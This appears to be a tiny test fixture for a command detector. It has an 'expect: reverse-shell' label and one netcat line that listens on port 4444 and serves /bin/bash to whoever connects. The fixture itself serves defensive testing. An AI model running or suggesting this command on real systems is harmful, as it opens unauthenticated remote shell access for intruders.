# expect: reverse-shell
nc -lvnpe /bin/bash 4444
